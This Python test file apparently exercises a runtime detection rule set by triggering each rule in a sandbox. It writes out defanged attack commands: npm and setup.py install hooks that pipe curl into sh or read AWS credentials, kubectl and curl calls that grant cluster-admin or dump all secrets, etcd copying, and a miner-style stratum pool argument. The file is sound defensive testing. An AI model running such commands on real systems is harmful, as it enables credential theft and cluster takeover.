# SPDX-License-Identifier: Apache-2.0
import json
from pathlib import Path

from support.box import Box
from support.host import Host

from default_rules import host_trigger, trigger

# No daemon listens there: the clients are the real ones and get no further.
NO_DAEMON = ["-H", "unix:///run/no-such-daemon.sock"]
NOTHING = Path("/bin/true")
NPM = "HOME=/srv npm install --offline --no-audit --no-fund --no-update-notifier"


def npm_install(box: Box, script: str) -> None:
    box.put("/srv/pkg/package.json", json.dumps({"name": "x", "version": "1.0.0", "scripts": {"preinstall": script}}))
    box.sh(f"cd /srv/pkg && {NPM}")


@trigger("install-script-uses-network-tool")
def npm_preinstall(box: Box) -> None:
    npm_install(box, "curl -s http://127.0.0.1:1/a | sh")


@trigger("install-script-uses-network-tool")
def setup_py(box: Box) -> None:
    box.put("/srv/x-1/setup.py", "import os\nos.system('curl -s http://127.0.0.1:1/a')\nraise SystemExit(1)\n")
    pip = "HOME=/srv /usr/bin/python3 -m pip install --no-index --no-build-isolation --break-system-packages"
    box.sh(f"cd /srv && tar czf x-1.tar.gz x-1 && {pip} /srv/x-1.tar.gz")


@trigger("install-script-reads-credentials")
def npm_worm(box: Box) -> None:
    box.put("/srv/.aws/credentials", "not a secret\n")
    script = "node -e \"require('fs').readFileSync('/srv/.aws/credentials')\""
    box.put(
        "/srv/package/package.json", json.dumps({"name": "x", "version": "1.0.0", "scripts": {"preinstall": script}})
    )
    box.sh(f"cd /srv && tar czf x.tgz package && mkdir app && cd app && {NPM} ../x.tgz")


@trigger("image-built-in-container")
def docker_build(box: Box) -> None:
    box.run(["docker", *NO_DAEMON, "build", "-t", "x", "/srv"])


@trigger("image-built-in-container")
def kaniko(box: Box) -> None:
    box.put("/kaniko/executor", NOTHING.read_bytes())
    box.run(["/kaniko/executor", "--context=dir:///srv"], check=True)


@host_trigger("image-built-on-node")
def docker_build_on_the_host(host: Host) -> None:
    host.run(["docker", *NO_DAEMON, "build", "-t", "x", "."])


@trigger("build-service-contacted-from-container")
def buildkit(box: Box) -> None:
    box.python("socket.socket(socket.AF_UNIX).connect_ex('/run/buildkit/buildkitd.sock')")


@trigger("image-pushed")
def docker_push(box: Box) -> None:
    box.run(["docker", *NO_DAEMON, "push", "registry.example/app:1"])


@trigger("image-pushed")
def crane_append(box: Box) -> None:
    box.put("/usr/local/bin/crane", NOTHING.read_bytes())
    box.run(["/usr/local/bin/crane", "append", "-b", "base", "-f", "x.tar", "-t", "registry.example/app:1"], check=True)


@host_trigger("image-imported")
def docker_load(host: Host) -> None:
    host.run(["docker", *NO_DAEMON, "load", "-i", "/dev/null"])


@trigger("image-layer-changed-on-node")
def layer_through_a_mount(box: Box) -> None:
    folder = "/host/var/lib/docker/overlay2/4b1c/diff"
    box.sh(f"mkdir -p {folder} && cp /bin/true {folder}/ls", check=True)


@trigger("package-database-changed")
def package_hidden(box: Box) -> None:
    box.sh("echo >>/var/lib/dpkg/status", check=True)


@trigger("package-source-changed-in-container")
def repository_added(box: Box) -> None:
    box.sh("echo >/etc/apt/sources.list.d/x.list", check=True)


@host_trigger("package-source-changed-on-host")
def repository_added_on_the_host(host: Host) -> None:
    # In a mount namespace of its own, over which an empty folder lies: the host's list stays as it is.
    folder = "/etc/apt/sources.list.d"
    host.run(["unshare", "--mount", "sh", "-c", f"mount -t tmpfs none {folder} && echo >{folder}/x.list"], check=True)


@trigger("package-verification-off")
def apt_unauthenticated(box: Box) -> None:
    box.sh("apt-get --simulate install --allow-unauthenticated no-such-package")


@trigger("package-from-unusual-source")
def pip_from_an_address(box: Box) -> None:
    box.sh("/usr/bin/python3 -m pip install --retries 0 http://127.0.0.1:1/x.whl")


@trigger("installed-library-changed")
def module_added(box: Box) -> None:
    box.sh("echo >/usr/lib/python3/dist-packages/x.py", check=True)


@trigger("cluster-role-granted-by-kubectl")
def binding_by_kubectl(box: Box) -> None:
    box.run(["kubectl", "create", "clusterrolebinding", "x", "--clusterrole=cluster-admin", "--serviceaccount=a:b"])


@trigger("cluster-role-granted-by-kubectl")
def binding_by_curl(box: Box) -> None:
    url = "https://127.0.0.1:1/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
    box.run(["curl", "-sk", "-X", "POST", url, "-d", "{}"])


@trigger("kubernetes-job-created-by-hand")
def cron_job_by_kubectl(box: Box) -> None:
    box.run(["kubectl", "create", "cronjob", "x", "--image=busybox", "--schedule=* * * * *", "--", "sh"])


@trigger("kubernetes-job-created-by-hand")
def cron_job_by_curl(box: Box) -> None:
    url = "https://127.0.0.1:1/apis/batch/v1/namespaces/default/cronjobs"
    box.run(["curl", "-sk", "-X", "POST", "-d", "{}", url])


@trigger("kubectl-changes-cluster-from-container")
def new_pod(box: Box) -> None:
    box.run(["kubectl", "run", "x", "--image=alpine", "--privileged"])


@trigger("kubernetes-secrets-asked-for")
def secrets_by_kubectl(box: Box) -> None:
    box.run(["kubectl", "get", "secrets", "-A", "-o", "yaml"])


@trigger("kubernetes-secrets-asked-for")
def secrets_by_curl(box: Box) -> None:
    box.run(["curl", "-sk", "https://127.0.0.1:1/api/v1/namespaces/kube-system/secrets"])


@trigger("kubernetes-api-called-by-hand")
def pods_by_curl(box: Box) -> None:
    box.run(["curl", "-sk", "https://127.0.0.1:6443/api/v1/pods"])


@trigger("etcd-data-read")
def copy_of_the_database(box: Box) -> None:
    box.put("/host/var/lib/etcd/member/snap/db", b"not a secret")
    box.sh("cp /host/var/lib/etcd/member/snap/db /srv/db", check=True)


@trigger("new-container-mines")
def pool_among_the_arguments(box: Box) -> None:
    box.put("/usr/local/bin/httpd", NOTHING.read_bytes())
    box.run(["/usr/local/bin/httpd", "-o", "stratum+tcp://pool.example:3333", "-u", "4A"], check=True)


@trigger("new-container-calls-out", internet=True)
def pool_port(box: Box) -> None:
    box.python("socket.socket().connect_ex(('203.0.113.9', 3333))")
